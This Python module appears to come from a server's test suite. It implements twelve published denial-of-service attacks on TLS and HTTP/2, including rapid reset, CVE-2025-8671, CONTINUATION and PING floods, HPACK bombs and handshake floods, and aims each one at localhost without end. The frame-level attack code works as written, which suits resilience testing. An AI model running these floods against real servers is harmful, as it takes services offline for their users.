"""The twelve published attacks on servers with TLS and HTTP/2. Each opens connections from 127.0.0.2 without end, as fast as it can."""
import itertools
import socket
import ssl
import struct
import time

from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingsFrame

from support.h2_client import connect_from
from support.h2_raw import Peer, priority_update
from suite import edge

FROM = ("127.0.0.2", 0)
TARGET = [(":method", "GET"), (":scheme", "http"), (":authority", edge.HOST), (":path", "/")]
HELD = 20           # connections that an attack of memory holds at once


class Attacker(Peer):
    """A client that connects from the attacker's address. It reads and drops the server's bytes."""

    def __init__(self, ports, **options):
        super().__init__(("127.0.0.1", ports.plain), source=FROM, **options)
        self.socket.settimeout(5)

    def flood(self, data, count=200):
        """Sends `data` again and again until the server closes the connection."""
        group = data * count
        while self.send(group):
            self.read_away()

    def send(self, data):
        try:
            return super().send(data)
        except TimeoutError:
            return False

    def read_away(self):
        try:
            while self.socket.recv(1 << 16, socket.MSG_DONTWAIT):
                pass
        except OSError:
            pass


def requests(peer, after):
    """Many requests, each followed by the frame that after(stream) makes."""
    block = peer.encoder.encode(TARGET)
    block = peer.encoder.encode(TARGET)       # from now on, all fields are references to the table
    return b"".join(Peer.frame(HeadersFrame(stream, block), "END_STREAM", "END_HEADERS") + after(stream) for stream in range(1, 2001, 2))


def rapid_reset(ports):
    with Attacker(ports) as peer:
        peer.send(requests(peer, lambda stream: struct.pack(">I", 4)[1:] + b"\3\0" + struct.pack(">II", stream, 8)))
        peer.flood(Peer.frame(PingFrame(0, b"12345678")))


def made_you_reset(ports):
    """CVE-2025-8671: an overflow of the stream's window makes the server reset it."""
    with Attacker(ports) as peer:
        peer.send(requests(peer, lambda stream: struct.pack(">I", 4)[1:] + b"\x08\0" + struct.pack(">II", stream, 0x7fff_ffff)))
        peer.read_away()


def continuation(ports):
    with Attacker(ports) as peer:
        peer.send(Peer.frame(HeadersFrame(1, peer.encoder.encode(TARGET)), "END_STREAM"))
        peer.flood(Peer.frame(ContinuationFrame(1, b"\0\1a\1b")))


def settings(ports):
    with Attacker(ports) as peer:
        peer.flood(Peer.frame(SettingsFrame(0, settings={4: 65_535, 1: 4096})))


def ping(ports):
    with Attacker(ports) as peer:
        peer.flood(Peer.frame(PingFrame(0, b"12345678")))


def empty_data(ports):
    with Attacker(ports) as peer:
        peer.send(peer.head([(":method", "POST"), *TARGET[1:]], end=False))
        peer.flood(Peer.frame(DataFrame(1, b"")))


def priorities(ports):
    with Attacker(ports) as peer:
        peer.flood(priority_update(1))


def held(ports, fields):
    """Requests with `fields` on many connections; their streams stay open, because each gets one byte of window at a time."""
    peers = []
    for _ in range(HELD):
        peer = Attacker(ports, window=0)
        peers.append(peer)
        for stream in range(1, 201, 2):
            if not peer.send(peer.head([*TARGET, *fields], stream)):
                break
    end = time.monotonic() + 5
    while time.monotonic() < end and any([peer.window(stream, 1) for peer in peers for stream in (1, 99, 199)]):
        for peer in peers:
            peer.read_away()
        time.sleep(0.2)
    for peer in peers:
        peer.socket.close()


def bomb_of_2016(ports):
    """CVE-2016-1544: one large field of the table, referred to again and again."""
    held(ports, [("a", "v" * 3900)] * 4000)


def bomb_of_tiny_fields(ports):
    held(ports, [("a", "")] * 120)


def bomb_of_crumbs(ports):
    held(ports, [("cookie", "")] * 250)


def handshakes(ports):
    """New connections that leave before the handshake has ended: the server has signed by then."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname=edge.HOST)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    for _ in range(100):
        with connect_from(FROM, ("127.0.0.1", ports.tls), 5) as peer:
            peer.sendall(hello)
            try:
                peer.recv(1 << 16)
            except OSError:
                pass


def dripped_hello(ports):
    """500 connections whose ClientHello comes a byte at a time."""
    peers = []
    for _ in range(500):
        try:
            peers.append(connect_from(FROM, ("127.0.0.1", ports.tls), 5))
        except OSError:
            break
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)
    for byte in hello:
        for peer in list(peers):
            try:
                peer.send(bytes([byte]))
            except OSError:
                peers.remove(peer)
                peer.close()
        time.sleep(0.1)
        if not peers:
            break
    for peer in peers:
        peer.close()


ATTACKS = {"rapid reset": rapid_reset, "made you reset": made_you_reset, "CONTINUATION": continuation, "SETTINGS": settings, "PING": ping, "empty DATA": empty_data,
           "PRIORITY_UPDATE": priorities, "HPACK bomb of 2016": bomb_of_2016, "bomb of tiny fields": bomb_of_tiny_fields, "bomb of cookie crumbs": bomb_of_crumbs,
           "handshake flood": handshakes, "dripped ClientHello": dripped_hello}


def attack(name, ports, rounds):
    """Repeats the attack until the process is killed; `rounds` counts."""
    for rounds.value in itertools.count(1):
        try:
            ATTACKS[name](ports)
        except OSError:
            pass
